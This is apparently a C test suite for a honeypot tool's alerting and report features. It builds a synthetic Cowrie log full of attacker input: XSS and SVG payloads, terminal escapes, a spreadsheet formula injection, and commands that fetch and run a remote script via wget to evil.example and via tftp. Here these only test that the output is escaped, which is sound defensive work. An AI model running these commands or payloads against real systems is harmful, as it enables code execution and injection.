/* test_alerts.c — the SOC hooks of src/lib/share/: alerts (alerts.c) and the report (report*.c),
 * on a store built here from a hostile Cowrie log. Two campaigns: "H" (four incidents sharing a
 * download whose URL, client version, username, password and commands carry HTML/script
 * injection, terminal escape sequences, CR/LF, bidi controls and invalid UTF-8) and "B" (two
 * incidents sharing another download). Pins: window parsing and formatting; which campaigns
 * alert for which window, with the window's ends exact ((start, end]); the order of alerts; the
 * JSON line (parsed back with jansson: values round-trip, no raw control byte); the syslog line
 * (no control byte, cut at a whole item); the report's HTML (no markup from the log, controls
 * made visible, the CSP, byte-identical twice, --limit, the k-distance SVG check) and Markdown
 * (code spans, escapes, table shape). */
#include <jansson.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "actorprint.h"
#include "check.h"
#include "share/alerts.h"
#include "share/report.h"
#include "share/report_internal.h"

#define OK(expr) CHECK_EQ_INT((expr), AP_OK)
#define US INT64_C(1000000)
/* 2024-03-01T00:00:00Z */
#define T0 (INT64_C(1709251200) * US)
#define HOUR (INT64_C(3600) * US)

static char dir[4096];

static const char *path_in(const char *name)
{
    static char paths[8][4200];
    static int k;
    k = (k + 1) % 8;
    snprintf(paths[k], sizeof paths[k], "%s/%s", dir, name);
    return paths[k];
}

static char *read_all(const char *path)
{
    FILE *f = fopen(path, "rb");
    if (!f)
        return NULL;
    char *p = NULL;
    size_t n = 0, cap = 0, k;
    char tmp[8192];
    while ((k = fread(tmp, 1, sizeof tmp, f)) > 0) {
        if (n + k + 1 > cap) {
            cap = (n + k + 1) * 2;
            char *q = realloc(p, cap);
            if (!q)
                exit(2);
            p = q;
        }
        memcpy(p + n, tmp, k);
        n += k;
    }
    fclose(f);
    if (!p)
        p = calloc(1, 1);
    else
        p[n] = '\0';
    return p;
}

static void write_text(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");
    if (!f) {
        fprintf(stderr, "cannot write %s\n", path);
        exit(2);
    }
    fputs(text, f);
    fclose(f);
}

/* ---- the hostile log (the same values as tests/golden/lib_hostile.sh) ------------------------ */

#define H_URL "http://evil.example/</script><img src=x onerror=alert(1)>.sh"
#define H_CLIENT "SSH-2.0-\"><svg onload=alert(1)>\x1b[2J\x1b]0;pwned\x07"
#define H_PASSWORD "=cmd|' /C calc'!A0\r\n</td><script>alert(1)</script>"
#define H_SHA "5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f"
#define B_SHA "6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a6a"

/* JSON string bodies as Cowrie writes them. */
#define J_URL H_URL
#define J_CLIENT "SSH-2.0-\\\"><svg onload=alert(1)>\\u001b[2J\\u001b]0;pwned\\u0007"
#define J_USER "root\\\"><svg onload=alert(1)>"
#define J_PASSWORD "=cmd|' /C calc'!A0\\r\\n</td><script>alert(1)</script>"

static const char *const h_cmds[] = {
    "wget " J_URL " -O /tmp/.x; sh /tmp/.x",
    "echo \\\"<script>alert(1)</script>\\\" > /tmp/x.html; curl javascript:alert(document.cookie)",
    ("printf \\\"\\u001b[31mRED\\u001b[0m\\u0007\\u009b2J\\u202eevil\\u2028line\\\" # | a | "
     "[x](javascript:alert(1)) **b** `c`"),
    "echo \\xff\\xfe\xff\xfe\xc3 invalid utf8",
};

static void event(FILE *f, const char *sid, const char *ip, int64_t us, const char *eventid,
                  const char *rest)
{
    char ts[48];
    ap_format_time(us, ts, sizeof ts);
    fprintf(f,
            "{\"eventid\":\"%s\",\"session\":\"%s\",\"sensor\":\"hp1\",\"src_ip\":\"%s\","
            "\"timestamp\":\"%s\"%s}\n",
            eventid, sid, ip, ts, rest);
}

static void session(FILE *f, const char *sid, const char *ip, int64_t t, int hostile)
{
    char rest[1024];
    event(f, sid, ip, t, "cowrie.session.connect",
          ",\"src_port\":40000,\"dst_ip\":\"10.0.0.5\",\"dst_port\":22,\"protocol\":\"ssh\"");
    snprintf(rest, sizeof rest, ",\"version\":\"%s\"", hostile ? J_CLIENT : "SSH-2.0-Go");
    event(f, sid, ip, t + US / 10, "cowrie.client.version", rest);
    snprintf(rest, sizeof rest, ",\"username\":\"%s\",\"password\":\"%s\"",
             hostile ? J_USER : "admin", hostile ? J_PASSWORD : "admin123");
    event(f, sid, ip, t + US, "cowrie.login.success", rest);
    if (hostile) {
        for (size_t i = 0; i < sizeof h_cmds / sizeof h_cmds[0]; i++) {
            snprintf(rest, sizeof rest, ",\"input\":\"%s\"", h_cmds[i]);
            event(f, sid, ip, t + (int64_t)(2 + i) * US, "cowrie.command.input", rest);
        }
    } else {
        event(f, sid, ip, t + 2 * US, "cowrie.command.input",
              ",\"input\":\"cd /tmp; tftp -g -r mips 100.64.9.9; chmod 777 mips; ./mips\"");
    }
    snprintf(rest, sizeof rest, ",\"url\":\"%s\",\"outfile\":\"dl/x\",\"shasum\":\"%s\"",
             hostile ? J_URL : "tftp://100.64.9.9/mips", hostile ? H_SHA : B_SHA);
    event(f, sid, ip, t + 9 * US, "cowrie.session.file_download", rest);
    event(f, sid, ip, t + 10 * US, "cowrie.session.closed", ",\"duration\":10.0");
}

static ap_store *build_store(void)
{
    const char *log = path_in("hostile.json");
    FILE *f = fopen(log, "w");
    if (!f)
        exit(2);
    session(f, "h0", "198.51.100.7", T0 - 36 * HOUR, 1); /* 2024-02-28T12:00 */
    session(f, "h1", "203.0.113.10", T0, 1);
    session(f, "h2", "203.0.113.20", T0 + 2 * HOUR, 1);
    session(f, "h3", "192.0.2.30", T0 + 4 * HOUR, 1);
    session(f, "b1", "100.64.1.1", T0 + 1 * HOUR, 0);
    session(f, "b2", "100.64.2.1", T0 + 3 * HOUR, 0);
    fclose(f);
    char err[256] = "";
    ap_store *st = NULL;
    if (ap_store_open(path_in("h.db"), AP_STORE_READ_WRITE, &st, err, sizeof err) != AP_OK) {
        fprintf(stderr, "store: %s\n", err);
        exit(2);
    }
    ap_ingest_options io;
    ap_ingest_options_init(&io);
    io.threads = 1;
    ap_ingest_summary sum;
    OK(ap_ingest(st, &log, 1, &io, &sum));
    CHECK_EQ_INT(sum.sessions_new, 6);
    ap_mapper *mapper = NULL;
    OK(ap_mapper_open(NULL, &mapper));
    ap_map_summary ms;
    OK(ap_store_map(st, mapper, 0, &ms));
    ap_mapper_close(mapper);
    ap_cluster_options co;
    ap_cluster_options_init(&co);
    ap_cluster *c = NULL;
    OK(ap_cluster_run(st, &co, &c, err, sizeof err));
    ap_cluster_free(c);
    return st;
}

static ap_model *open_model(ap_store *st)
{
    char err[256] = "";
    ap_model *m = NULL;
    ap_status s = ap_model_open(st, NULL, &m, err, sizeof err);
    CHECK_EQ_INT(s, AP_OK);
    if (s != AP_OK) {
        fprintf(stderr, "model: %s\n", err);
        exit(2);
    }
    return m;
}

/* The campaign whose IOCs include the hash. */
static const ap_model_campaign *campaign_with(const ap_model *m, const char *sha)
{
    for (size_t i = 0; i < ap_model_campaign_count(m); i++) {
        const ap_model_campaign *c = ap_model_campaign_at(m, i);
        for (size_t k = 0; k < c->niocs; k++)
            if (c->iocs[k].kind == AP_MODEL_IOC_SHA256 && !strcmp(c->iocs[k].value, sha))
                return c;
    }
    return NULL;
}

/* No C0 control (but \t and \n where allowed), no DEL, no C1 (as UTF-8 C2 80-9F). */
static int has_raw_control(const char *s, int allow_tab_lf)
{
    for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
        if ((*p < 0x20 && !(allow_tab_lf && (*p == '\t' || *p == '\n'))) || *p == 0x7f)
            return 1;
        if (*p == 0xc2 && p[1] >= 0x80 && p[1] <= 0x9f)
            return 1;
        if (*p == 0xe2 && p[1] == 0x80 && (p[2] == 0xae || p[2] == 0xa8)) /* U+202E, U+2028 */
            return 1;
    }
    return 0;
}

/* ---- window ------------------------------------------------------------------------------ */

static void test_window(void)
{
    int64_t us = 0;
    OK(ap_alert_parse_window("90m", &us));
    CHECK_EQ_INT(us, 5400 * US);
    OK(ap_alert_parse_window("24h", &us));
    CHECK_EQ_INT(us, 86400 * US);
    OK(ap_alert_parse_window("7d", &us));
    CHECK_EQ_INT(us, 7 * 86400 * US);
    OK(ap_alert_parse_window("2w", &us));
    CHECK_EQ_INT(us, 14 * 86400 * US);
    OK(ap_alert_parse_window("3600", &us));
    CHECK_EQ_INT(us, 3600 * US);
    OK(ap_alert_parse_window("45s", &us));
    CHECK_EQ_INT(us, 45 * US);
    const char *bad[] = {"", "h", "0", "0h", "-5", "5x", "5hh", "1.5h", " 5", "5 ", "24H",
                         "99999999999999999999", "36601d"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        us = 42;
        CHECK_EQ_INT(ap_alert_parse_window(bad[i], &us), AP_ERR_ARG);
        CHECK_EQ_INT(us, 42);
    }
    CHECK_EQ_INT(ap_alert_parse_window(NULL, &us), AP_ERR_ARG);
    char b[32];
    CHECK_EQ_STR(ap_alert_format_window(86400 * US, b, sizeof b), "24h");
    CHECK_EQ_STR(ap_alert_format_window(2 * 86400 * US, b, sizeof b), "2d");
    CHECK_EQ_STR(ap_alert_format_window(7 * 86400 * US, b, sizeof b), "7d");
    CHECK_EQ_STR(ap_alert_format_window(3600 * US, b, sizeof b), "1h");
    CHECK_EQ_STR(ap_alert_format_window(5400 * US, b, sizeof b), "90m");
    CHECK_EQ_STR(ap_alert_format_window(61 * US, b, sizeof b), "61s");
}

/* ---- which campaigns alert ------------------------------------------------------------------ */

static size_t alert_count(const ap_model *m, int64_t window_us, uint64_t min, int64_t end_us,
                          const ap_model_campaign *only, uint64_t *new_incidents)
{
    ap_alert_options o;
    ap_alert_options_init(&o);
    o.window_us = window_us;
    o.min_incidents = min;
    o.end_us = end_us;
    ap_alert_list l;
    OK(ap_alerts_find(m, &o, &l));
    size_t n = 0;
    *new_incidents = 0;
    for (size_t i = 0; i < l.n; i++)
        if (!only || l.items[i].campaign == only) {
            n++;
            *new_incidents = l.items[i].new_incidents;
        }
    ap_alert_list_free(&l);
    return n;
}

static void test_find(const ap_model *m)
{
    const ap_model_campaign *h = campaign_with(m, H_SHA), *b = campaign_with(m, B_SHA);
    CHECK(h != NULL);
    CHECK(b != NULL);
    if (!h || !b)
        return;
    CHECK(h != b);
    CHECK_EQ_INT(h->incidents, 4);
    CHECK_EQ_INT(b->incidents, 2);
    const int64_t last = T0 + 4 * HOUR + 10 * US;
    CHECK_EQ_INT(ap_model_dataset_of(m)->last_us, last);

    /* defaults: 24 h before the last event (2024-03-01T04:00:10), at least 3 */
    ap_alert_options o;
    ap_alert_options_init(&o);
    ap_alert_list l;
    OK(ap_alerts_find(m, &o, &l));
    CHECK_EQ_INT(l.end_us, last);
    CHECK_EQ_INT(l.start_us, last - 24 * HOUR);
    CHECK_EQ_INT(l.n, 1);
    if (l.n == 1) {
        CHECK(l.items[0].campaign == h);
        CHECK_EQ_INT(l.items[0].new_incidents, 3); /* not the one of 2024-02-28 */
        CHECK_EQ_INT(l.items[0].new_sessions, 3);
    }
    ap_alert_list_free(&l);
    CHECK(l.items == NULL && l.n == 0);

    /* at least 2: both, most new incidents first */
    o.min_incidents = 2;
    OK(ap_alerts_find(m, &o, &l));
    CHECK_EQ_INT(l.n, 2);
    if (l.n == 2) {
        CHECK(l.items[0].campaign == h);
        CHECK(l.items[1].campaign == b);
        CHECK_EQ_INT(l.items[1].new_incidents, 2);
    }
    ap_alert_list_free(&l);

    uint64_t got;
    /* a week holds all four */
    CHECK_EQ_INT(alert_count(m, 7 * 24 * HOUR, 4, 0, h, &got), 1);
    CHECK_EQ_INT(got, 4);
    CHECK_EQ_INT(alert_count(m, 24 * HOUR, 4, 0, NULL, &got), 0);
    /* the window is (start, end]: an incident starting exactly at start is out, at end is in */
    CHECK_EQ_INT(alert_count(m, 24 * HOUR, 1, T0 + 24 * HOUR, h, &got), 1);
    CHECK_EQ_INT(got, 2); /* h2, h3; h1 starts exactly at the start */
    CHECK_EQ_INT(alert_count(m, 4 * HOUR, 1, T0 + 4 * HOUR, h, &got), 1);
    CHECK_EQ_INT(got, 2); /* h2 and h3 (at the end); h1 at the start is out */
    CHECK_EQ_INT(alert_count(m, 4 * HOUR, 1, T0 + 4 * HOUR - 1, h, &got), 1);
    CHECK_EQ_INT(got, 2); /* h1 (now inside) and h2; h3 is one microsecond late */
    CHECK_EQ_INT(alert_count(m, 90 * 60 * US, 1, T0 + 2 * HOUR, b, &got), 1);
    CHECK_EQ_INT(got, 1); /* b1 at 01:00 */
    /* a window before any data, and one long after */
    CHECK_EQ_INT(alert_count(m, 24 * HOUR, 1, T0 - 100 * HOUR, NULL, &got), 0);
    CHECK_EQ_INT(alert_count(m, 24 * HOUR, 1, T0 + 1000 * HOUR, NULL, &got), 0);
    /* min 0 means 1 */
    CHECK_EQ_INT(alert_count(m, 90 * 60 * US, 0, T0 + 2 * HOUR, b, &got), 1);

    o.window_us = 0;
    CHECK_EQ_INT(ap_alerts_find(m, &o, &l), AP_ERR_ARG);
    CHECK(l.items == NULL && l.n == 0);
}

/* ---- the JSON line and the syslog line ------------------------------------------------------ */

static void test_lines(const ap_model *m)
{
    ap_alert_options o;
    ap_alert_options_init(&o);
    o.top_iocs = 30; /* every indicator of H, the hostile client version among them */
    ap_alert_list l;
    OK(ap_alerts_find(m, &o, &l));
    CHECK_EQ_INT(l.n, 1);
    if (l.n != 1) {
        ap_alert_list_free(&l);
        return;
    }
    const ap_model_campaign *h = l.items[0].campaign;
    char *line = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&line, &len);
    OK(ap_alert_write_json(f, &l, &l.items[0], &o));
    fclose(f);
    CHECK(len > 0 && line[len - 1] == '\n');
    CHECK(strchr(line, '\n') == line + len - 1); /* one line */
    line[len - 1] = '\0';
    CHECK(!has_raw_control(line, 0));
    json_error_t je;
    json_t *j = json_loads(line, 0, &je);
    CHECK(j != NULL);
    if (j) {
        char want[32];
        snprintf(want, sizeof want, "C-%lld", (long long)h->id);
        CHECK_EQ_STR(json_string_value(json_object_get(j, "campaign")), want);
        snprintf(want, sizeof want, "A-%lld", (long long)h->actor);
        CHECK_EQ_STR(json_string_value(json_object_get(j, "actor")), want);
        CHECK_EQ_INT(json_integer_value(json_object_get(j, "new_incidents")), 3);
        CHECK_EQ_INT(json_integer_value(json_object_get(j, "incidents")), 4);
        CHECK_EQ_INT(json_integer_value(json_object_get(j, "window_seconds")), 86400);
        CHECK_EQ_STR(json_string_value(json_object_get(j, "window")), "24h");
        CHECK_EQ_STR(json_string_value(json_object_get(j, "window_end")),
                     "2024-03-01T04:00:10.000000Z");
        CHECK_EQ_STR(json_string_value(json_object_get(j, "window_start")),
                     "2024-02-29T04:00:10.000000Z");
        CHECK_EQ_STR(json_string_value(json_object_get(j, "first_seen")),
                     "2024-02-28T12:00:00.000000Z");
        CHECK(json_real_value(json_object_get(j, "score")) > 0);
        CHECK(json_is_array(json_object_get(j, "techniques")));
        /* the hostile values come back exactly */
        json_t *iocs = json_object_get(j, "iocs");
        int url = 0, client = 0, password = 0;
        for (size_t i = 0; i < json_array_size(iocs); i++) {
            json_t *x = json_array_get(iocs, i);
            const char *kind = json_string_value(json_object_get(x, "kind"));
            const char *value = json_string_value(json_object_get(x, "value"));
            if (!kind || !value)
                continue;
            url += !strcmp(kind, "url") && !strcmp(value, H_URL);
            client += !strcmp(kind, "client") && !strcmp(value, H_CLIENT);
            password += !strcmp(kind, "password");
        }
        CHECK_EQ_INT(url, 1);
        CHECK_EQ_INT(client, 1);
        CHECK_EQ_INT(password, 0); /* credentials are not indicators */
        json_decref(j);
    }
    free(line);

    /* syslog: one line of text, attacker text terminal-escaped */
    char text[2048];
    size_t n = ap_alert_format_line(text, sizeof text, &l, &l.items[0], &o);
    CHECK_EQ_INT(n, strlen(text));
    CHECK(!has_raw_control(text, 0));
    CHECK(strstr(text, "SSH-2.0-\"><svg onload=alert(1)>\\x1b[2J\\x1b]0;pwned\\x07") != NULL);
    CHECK(strstr(text, "3 new incidents (3 sessions) in 24h to 2024-03-01T04:00:10.000000Z") !=
          NULL);
    char want[64];
    snprintf(want, sizeof want, "campaign C-%lld actor A-%lld: ", (long long)h->id,
             (long long)h->actor);
    CHECK(strncmp(text, want, strlen(want)) == 0);
    CHECK(strstr(text, "; iocs ") != NULL);
    CHECK(strcmp(text + n - 3, "...") != 0); /* it fits */
    /* a short buffer: cut after a whole item, ends in "..." */
    char small[120];
    memset(small, 'Z', sizeof small);
    n = ap_alert_format_line(small, sizeof small, &l, &l.items[0], &o);
    CHECK(n < sizeof small);
    CHECK_EQ_INT(n, strlen(small));
    CHECK(n >= 3 && strcmp(small + n - 3, "...") == 0);
    CHECK(strncmp(small, text, n - 3) == 0);
    CHECK_EQ_INT(ap_alert_format_line(small, 10, &l, &l.items[0], &o), 0);
    CHECK_EQ_STR(small, "");
    ap_alert_list_free(&l);
}

/* ---- Markdown escaping ---------------------------------------------------------------------- */

static char *md(void (*fn)(FILE *, const char *), const char *s)
{
    static char out[512];
    char *p = NULL;
    size_t n = 0;
    FILE *f = open_memstream(&p, &n);
    fn(f, s);
    fclose(f);
    snprintf(out, sizeof out, "%s", p ? p : "");
    free(p);
    return out;
}

static void test_markdown_escaping(void)
{
    CHECK_EQ_STR(md(rp_md_code, "plain"), "` plain `");
    CHECK_EQ_STR(md(rp_md_code, "a`b``c"), "``` a`b``c ```");
    CHECK_EQ_STR(md(rp_md_code, "x|y"), "` x\\|y `");
    CHECK_EQ_STR(md(rp_md_code, "<script>*_[x](javascript:y)"), "` <script>*_[x](javascript:y) `");
    CHECK_EQ_STR(md(rp_md_code, "a\x1b[1m\r\nb\x7f"),
                 "` a\xe2\x90\x9b[1m\xe2\x90\x8d\xe2\x90\x8a" "b\xe2\x90\xa1 `");
    CHECK_EQ_STR(md(rp_md_code, "\xff\xc3(\xe2\x80\xae\xc2\x9b"),
                 "` \xef\xbf\xbd\xef\xbf\xbd(\xef\xbf\xbd\xef\xbf\xbd `");
    CHECK_EQ_STR(md(rp_md_code, ""), "-");
    CHECK_EQ_STR(md(rp_md_code, NULL), "-");
    CHECK_EQ_STR(md(rp_md_text, "*a_b* [x](y) <z> | & ~ # ! \\ `"),
                 "\\*a\\_b\\* \\[x\\](y) \\<z\\> \\| \\& \\~ \\# \\! \\\\ \\`");
    CHECK_EQ_STR(md(rp_md_text, "line\nbreak"), "line\xe2\x90\x8a" "break");
    CHECK_EQ_STR(md(rp_md_text, ""), "-");
}

/* ---- the report ----------------------------------------------------------------------------- */

static int contains_ci(const char *hay, const char *needle)
{
    size_t n = strlen(needle);
    for (const char *p = hay; *p; p++)
        if (!strncasecmp(p, needle, n))
            return 1;
    return 0;
}

static size_t count_of(const char *hay, const char *needle)
{
    size_t k = 0;
    for (const char *p = strstr(hay, needle); p; p = strstr(p + 1, needle))
        k++;
    return k;
}

/* Pipes that end a Markdown table cell (not written as "\|"). */
static int cell_pipes(const char *line, size_t n)
{
    int k = 0;
    for (size_t i = 0; i < n; i++)
        if (line[i] == '|' && (i == 0 || line[i - 1] != '\\'))
            k++;
    return k;
}

static ap_status report_into(const ap_model *m, const char *sub, size_t limit, const char *kdist)
{
    ap_report_options o;
    ap_report_options_init(&o);
    o.dir = path_in(sub);
    o.limit = limit;
    o.kdist_svg = kdist;
    char err[512] = "";
    ap_status s = ap_report_write(m, &o, err, sizeof err);
    if (s != AP_OK)
        fprintf(stderr, "  report %s: %s\n", sub, err);
    return s;
}

static void test_report(const ap_model *m)
{
    const ap_model_campaign *h = campaign_with(m, H_SHA), *b = campaign_with(m, B_SHA);
    if (!h || !b)
        return;
    OK(report_into(m, "r1", 0, NULL));
    OK(report_into(m, "r2", 0, NULL));
    char *html = read_all(path_in("r1/report.html")), *md1 = read_all(path_in("r1/report.md"));
    char *html2 = read_all(path_in("r2/report.html")), *md2 = read_all(path_in("r2/report.md"));
    CHECK(html && md1 && html2 && md2);
    if (!html || !md1 || !html2 || !md2)
        goto done;
    CHECK_EQ_STR(html, html2); /* deterministic */
    CHECK_EQ_STR(md1, md2);

    /* HTML: nothing from the log became markup */
    CHECK(strncmp(html, "<!DOCTYPE html>\n<html lang=\"en\">", 32) == 0);
    CHECK(strstr(html, "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src "
                       "'none'; style-src 'unsafe-inline'; img-src data:\"/>") != NULL);
    CHECK(!contains_ci(html, "<script"));
    CHECK(!contains_ci(html, "<img"));
    CHECK(!contains_ci(html, "<iframe"));
    CHECK(!contains_ci(html, "<svg onload"));
    CHECK(!contains_ci(html, "href=\"javascript"));
    CHECK(!contains_ci(html, " src=\""));
    CHECK_EQ_INT(count_of(html, "<svg"),
                 count_of(html, "<svg xmlns=\"http://www.w3.org/2000/svg\""));
    CHECK_EQ_INT(count_of(html, "href=\""), count_of(html, "href=\"#"));
    CHECK(!has_raw_control(html, 1));
    /* ... and is shown, escaped, with its controls visible */
    CHECK(strstr(html, "<code>http://evil.example/&lt;/script&gt;&lt;img src=x "
                       "onerror=alert(1)&gt;.sh</code>") != NULL);
    CHECK(strstr(html, "<code>SSH-2.0-&quot;&gt;&lt;svg onload=alert(1)&gt;\xe2\x90\x9b[2J"
                       "\xe2\x90\x9b]0;pwned\xe2\x90\x87</code>") != NULL);
    CHECK(strstr(html, "=cmd|&#39; /C calc&#39;!A0\xe2\x90\x8d") != NULL);
    /* every campaign has its section, timeline and a heat map row */
    char id[64];
    snprintf(id, sizeof id, "<section class=\"campaign\" id=\"C-%lld\">", (long long)h->id);
    CHECK(strstr(html, id) != NULL);
    snprintf(id, sizeof id, "<section class=\"campaign\" id=\"C-%lld\">", (long long)b->id);
    CHECK(strstr(html, id) != NULL);
    CHECK_EQ_INT(count_of(html, "aria-label=\"Sessions per day of campaign"), 2);
    CHECK_EQ_INT(count_of(html, "aria-label=\"Sessions per campaign and technique\""), 1);
    CHECK(strstr(html, "<section id=\"kdist\">") == NULL);

    /* Markdown: attacker text only in code spans, tables keep their shape */
    CHECK(!has_raw_control(md1, 1));
    CHECK(
        strstr(md1, "| url | ` http://evil.example/</script><img src=x onerror=alert(1)>.sh ` |") !=
        NULL);
    CHECK(strstr(md1, "| password | ` =cmd\\|' /C calc'!A0\xe2\x90\x8d\xe2\x90\x8a</td><script>") !=
          NULL);
    int rows = 0, bad_rows = 0;
    const char *iocs = strstr(md1, "| Kind | Value |");
    for (const char *p = iocs; p && *p;) {
        const char *e = strchr(p, '\n');
        size_t n = e ? (size_t)(e - p) : strlen(p);
        if (n && p[0] == '|') {
            rows++;
            bad_rows += cell_pipes(p, n) != 8;
        }
        p = e ? e + 1 : NULL;
    }
    CHECK(rows > 10);
    CHECK_EQ_INT(bad_rows, 0);

    /* --limit 1: one section, the rest counted */
    OK(report_into(m, "r3", 1, NULL));
    char *html3 = read_all(path_in("r3/report.html"));
    CHECK(html3 != NULL);
    if (html3) {
        CHECK_EQ_INT(count_of(html3, "<section class=\"campaign\""), 1);
        CHECK(strstr(html3, "1 more campaigns are not shown") != NULL);
        free(html3);
    }

done:
    free(html);
    free(html2);
    free(md1);
    free(md2);
}

static void test_report_kdist_and_errors(const ap_model *m)
{
    /* a plain SVG is embedded without its XML prolog */
    const char *good = path_in("good.svg");
    write_text(good, "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" "
                     "xmlns:xlink=\"http://www.w3.org/1999/xlink\"><defs><symbol id=\"g\"/></defs>"
                     "<use xlink:href=\"#g\"/><rect overflow=\"visible\" width=\"2\"/></svg>\n");
    OK(report_into(m, "k1", 0, good));
    char *html = read_all(path_in("k1/report.html"));
    CHECK(html && strstr(html, "<section id=\"kdist\">") != NULL);
    CHECK(html && strstr(html, "<figure>\n<svg xmlns=\"http://www.w3.org/2000/svg\" "
                               "xmlns:xlink") != NULL);
    CHECK(html && strstr(html, "<?xml") == NULL);
    free(html);
    /* anything active is refused */
    const char *const bad[] = {
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=\"alert(1)\"></svg>",
        "<svg><rect ONCLICK=x/></svg>",
        "<svg><foreignObject><div/></foreignObject></svg>",
        "<svg><use href=\"http://x/y.svg#a\"/></svg>",
        "<svg><image xlink:href=\"#x\"/></svg>",
        "<svg><a href=\"#x\">y</a></svg>",
        "<!DOCTYPE svg [<!ENTITY x \"y\">]><svg>&x;</svg>",
        "no svg at all",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        const char *p = path_in("bad.svg");
        write_text(p, bad[i]);
        ap_report_options o;
        ap_report_options_init(&o);
        o.dir = path_in("k2");
        o.kdist_svg = p;
        char err[512] = "";
        CHECK_EQ_INT(ap_report_write(m, &o, err, sizeof err), AP_ERR_FORMAT);
        CHECK(strstr(err, "not a plain SVG") != NULL);
        if (!strstr(err, "not a plain SVG"))
            fprintf(stderr, "  accepted: %s\n", bad[i]);
    }
    ap_report_options o;
    ap_report_options_init(&o);
    char err[512] = "";
    o.kdist_svg = path_in("missing.svg");
    o.dir = path_in("k3");
    CHECK_EQ_INT(ap_report_write(m, &o, err, sizeof err), AP_ERR_IO);
    o.kdist_svg = NULL;
    o.dir = NULL;
    CHECK_EQ_INT(ap_report_write(m, &o, err, sizeof err), AP_ERR_ARG);
    o.dir = path_in("hostile.json"); /* a file, not a directory */
    CHECK_EQ_INT(ap_report_write(m, &o, err, sizeof err), AP_ERR_IO);
    CHECK(strstr(err, "is not a directory") != NULL);
}

static void test_kdist(ap_store *st, const ap_model *m)
{
    const char *svg = path_in("kdist.svg");
    double eps = -1;
    char err[512] = "";
    OK(ap_report_kdist(st, NULL, svg, &eps, err, sizeof err));
    CHECK(eps >= 0);
    OK(report_into(m, "k4", 0, svg));
    char *html = read_all(path_in("k4/report.html"));
    CHECK(html && strstr(html, "<section id=\"kdist\">") != NULL);
    free(html);
}

int main(void)
{
    snprintf(dir, sizeof dir, "%s", check_tmpdir("alerts"));
    test_window();
    test_markdown_escaping();
    ap_store *st = build_store();
    ap_model *m = open_model(st);
    test_find(m);
    test_lines(m);
    test_report(m);
    test_report_kdist_and_errors(m);
    test_kdist(st, m);
    ap_model_close(m);
    ap_store_close(st);
    CHECK_DONE();
}
